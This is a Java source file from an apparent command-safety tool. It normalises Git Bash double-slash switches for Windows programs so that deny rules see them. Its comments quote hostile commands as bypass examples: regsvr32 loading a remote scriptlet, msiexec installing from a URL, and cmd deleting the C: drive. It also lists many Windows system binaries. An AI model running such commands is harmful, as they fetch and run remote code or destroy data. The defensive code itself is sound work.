package dev.shellwarden.grammar;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Git Bash's (MSYS2's) spelling of a Windows switch: an argument that starts with {@code //} is
 * handed to a Windows program with one slash removed ({@code cmd //c}, {@code taskkill //f //im},
 * {@code regsvr32 //s //i:URL}), since MSYS would turn {@code /c} into a path. The bash reader
 * gives a Windows program the words it receives, so the rules that read {@code /c}, {@code /s}
 * and {@code /i:} meet them as PowerShell's reader gives them.
 *
 * <p>WHY: {@code regsvr32 //s //i:http://…/x.sct scrobj.dll}, {@code msiexec //i URL} and
 * {@code cmd //c rd //s //q C:\} were allowed from Git Bash while the same programs were denied
 * with one slash.
 *
 * <p>INVARIANT: only Windows programs ({@link #windowsProgram}) and only {@code //} followed by a
 * switch are rewritten: {@code //server/share} (MSYS's UNC path) and the words of POSIX tools
 * stay as written. Reading one slash where MSYS might keep two only makes a Windows switch
 * visible, never hides one.
 */
public final class MsysSwitches {

    private MsysSwitches() {
    }

    /**
     * Windows' own programs without a POSIX namesake, which Git Bash finds on the PATH by their bare
     * name ({@code regsvr32} for regsvr32.exe). Programs named with {@code .exe}, {@code .com},
     * {@code .bat} or {@code .cmd}, or by a path through a Windows folder, count too.
     */
    private static final Set<String> WINDOWS_ONLY = Set.of("cmd", "reg", "regsvr32", "rundll32", "msiexec", "mshta",
            "certutil", "bitsadmin", "schtasks", "taskkill", "tasklist", "wmic", "vssadmin", "wevtutil", "bcdedit", "icacls",
            "cacls", "takeown", "cscript", "wscript", "cmstp", "msbuild", "installutil", "regasm", "regsvcs", "odbcconf",
            "pnputil", "infdefaultinstall", "certoc", "mmc", "msdt", "forfiles", "robocopy", "xcopy", "mklink", "fsutil",
            "cipher", "diskpart", "esentutl", "extrac32", "findstr", "auditpol", "manage-bde", "powercfg", "setx", "cmdkey",
            "vaultcmd", "netsh", "sc", "wbadmin", "ntdsutil", "diskshadow", "vshadow", "wusa", "dism", "sfc", "systeminfo",
            "ipconfig", "runas", "gpupdate", "gpresult", "mountvol", "chkdsk", "defrag", "attrib", "control", "explorer",
            "choice", "where", "regedit", "wsl", "winget", "net", "net1", "shutdown", "logoff");

    /** {@code //} then a switch: letters (and {@code ?}) up to the end, a {@code :} or a {@code =} ({@code //c}, {@code //i:URL}). */
    private static final Pattern SWITCH = Pattern.compile("//[A-Za-z?][A-Za-z0-9?_-]*(?:[:=].*)?", Pattern.DOTALL);

    /** True when the command word names a Windows program (see {@link #WINDOWS_ONLY}). */
    public static boolean windowsProgram(String commandWord) {
        String path = commandWord.replace('\\', '/');
        String base = path.substring(path.lastIndexOf('/') + 1);
        return dev.shellwarden.grammar.bash.Names.withoutWindowsSuffix(base) != null
                || WINDOWS_ONLY.contains(base.toLowerCase(Locale.ROOT))
                || WINDOWS_DIR.matcher(path.toLowerCase(Locale.ROOT)).matches();
    }

    /** A path under a Windows directory; compiled once (String.matches compiles per call, per command word). */
    private static final Pattern WINDOWS_DIR = Pattern.compile("(/mnt)?/[a-z]/windows/.*|[a-z]:/windows/.*");

    /** The switch a Windows program receives for {@code word}: {@code //c} is {@code /c}; any other word is itself. */
    public static String unescape(String word) {
        return SWITCH.matcher(word).matches() ? word.substring(1) : word;
    }

    /** A Windows program's argv with its literal arguments as the program receives them ({@link #unescape}); any other argv itself. */
    public static List<Word> normalized(List<Word> argv) {
        if (argv.isEmpty() || !argv.get(0).literal() || !windowsProgram(argv.get(0).text())) {
            return argv;
        }
        List<Word> out = null;
        for (int i = 1; i < argv.size(); i++) {
            Word w = argv.get(i);
            String t = w.literal() ? unescape(w.text()) : w.text();
            if (!t.equals(w.text())) {
                if (out == null) {
                    out = new java.util.ArrayList<>(argv);
                }
                out.set(i, new Word(t, w.raw(), true, w.features()));
            }
        }
        return out == null ? argv : out;
    }
}
